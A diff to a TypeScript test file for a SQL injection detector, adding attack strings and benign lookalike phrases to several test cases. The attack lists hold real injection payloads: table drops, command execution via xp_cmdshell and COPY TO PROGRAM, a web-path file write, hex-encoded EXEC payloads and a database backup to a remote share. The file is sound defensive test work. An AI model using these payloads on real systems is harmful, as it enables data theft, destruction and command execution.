@@ -10,8 +10,8 @@ const CASES: Record<string, { attacks: string[]; benign: string[] }> = {
     benign: ['Union Square', "O'connors UNION selected a few friends", 'the union select committee met'],
   },
   'sqli-002': {
-    attacks: ['1; use master;--', '1; DROP TABLE users', "x'; delete from accounts--", '1;shutdown', "'; exec xp_cmdshell 'dir'", "';if 1=1 shutdown-- -a", '1; delete ignore from foo', '1;call p(@version, @a)', "'; while 1=1 shutdown-- -a", '1;load data infile "foo"', '1; if exists (select 1)', "'; COPY cmd_exec FROM PROGRAM 'id'--", "';copy (select '') to program 'id'--"],
-    benign: ['use Getopt::Long;\nuse App::Prove::State;\nuse Carp;', 'require Exporter;\nuse POSIX;', '1;\nuse strict;\nuse warnings;', "Roger'; copy that", 'done; copy the file later', 'Sure; copy it to the drive', '1; exec will create the case 7', 'Hello; select your plan below', 'a; b; c', 'ok; if you can, call me'],
+    attacks: ['1; use master;--', '1; DROP TABLE users', "x'; delete from accounts--", '1;shutdown', "'; exec xp_cmdshell 'dir'", "';if 1=1 shutdown-- -a", '1; delete ignore from foo', '1;call p(@version, @a)', "'; while 1=1 shutdown-- -a", '1;load data infile "foo"', '1; if exists (select 1)', "'; COPY cmd_exec FROM PROGRAM 'id'--", "';copy (select '') to program 'id'--", "'; desc users; --", '1;DESCRIBE users', "'; show databases; --", '1; show full processlist', "'; show create table users--"],
+    benign: ['use Getopt::Long;\nuse App::Prove::State;\nuse Carp;', 'require Exporter;\nuse POSIX;', '1;\nuse strict;\nuse warnings;', "Roger'; copy that", 'done; copy the file later', 'Sure; copy it to the drive', '1; exec will create the case 7', 'Hello; select your plan below', 'a; b; c', 'ok; if you can, call me', 'Tell us about you; describe yourself', 'sort=name; desc', "It's great; show it to me", 'We have 5 tables; show tables to guests', "Sam'; show us"],
   },
   'sqli-003': {
     attacks: ['1 and true', '1 or not 0', 'AND 1', ' OR x=y', ') or (a=a', 'hi or a=a', "x') OR (Col = col);", "aa'or column=column -- #aa", '1234 OR 1=1', "-1839' or '1'='1", 'EmptyValue\' and 526=527', "x' or 1--", 'HOPE AND 1+2=3+4', "' OR UserID IS NOT NULL"],
@@ -98,8 +98,8 @@ const CASES: Record<string, { attacks: string[]; benign: string[] }> = {
     benign: ['1,1--', '1 -- 2', '(see above) --', 'Chapter (1) --', '2024 #1'],
   },
   'sqli-025': {
-    attacks: ["INSERT INTO users (username, password) VALUES ('a', 'b')", "UPDATE users SET password = 'x' WHERE username = 'admin'", 'DELETE FROM users WHERE 1=1', "COPY (SELECT '') TO PROGRAM 'id'", "ATTACH DATABASE '/var/www/lol.php' AS lol", 'SELECT user FROM dual', 'insert into t select x', "COPY pentestlab(t) TO '/tmp/pentestlab';", "load data infile '\\\\error\\abc' into table db.t;", 'DROP TABLE IF EXISTS cmd_exec;'],
-    benign: ['Then insert into the form your name', 'Please update your profile settings', 'We will delete from the list anyone who', 'copy that to the clipboard', 'copy files to program folder', 'select from dual options', 'dual citizenship', 'drop table 5 if you must', "Copy (the 'draft') to 'Final'"],
+    attacks: ["INSERT INTO users (username, password) VALUES ('a', 'b')", "UPDATE users SET password = 'x' WHERE username = 'admin'", 'DELETE FROM users WHERE 1=1', "COPY (SELECT '') TO PROGRAM 'id'", "ATTACH DATABASE '/var/www/lol.php' AS lol", 'SELECT user FROM dual', 'insert into t select x', "COPY pentestlab(t) TO '/tmp/pentestlab';", "load data infile '\\\\error\\abc' into table db.t;", 'DROP TABLE IF EXISTS cmd_exec;', "BACKUP DATABASE master TO DISK='\\\\10.0.0.1\\share\\db.bak'", "backup log sales to disk = 'x.trn'"],
+    benign: ['Then insert into the form your name', 'Please update your profile settings', 'We will delete from the list anyone who', 'copy that to the clipboard', 'copy files to program folder', 'select from dual options', 'dual citizenship', 'drop table 5 if you must', "Copy (the 'draft') to 'Final'", 'Please backup database files to disk weekly', 'backup database to disk'],
   },
   'sqli-026': {
     attacks: ['0x77616974666F722064656C61792027303A303A313027', '0x730065006c0065006300740020004000400076006500 ...', '0x770061006900740066006F0072002000640065006C00 ...', '0x770061006900740066006F0072002000640065006C00610079', 'DECLARE @S NVARCHAR(4000);SET @S=CAST(0x4445434C41524520405420 AS NVARCHAR(4000));EXEC(@S);'],
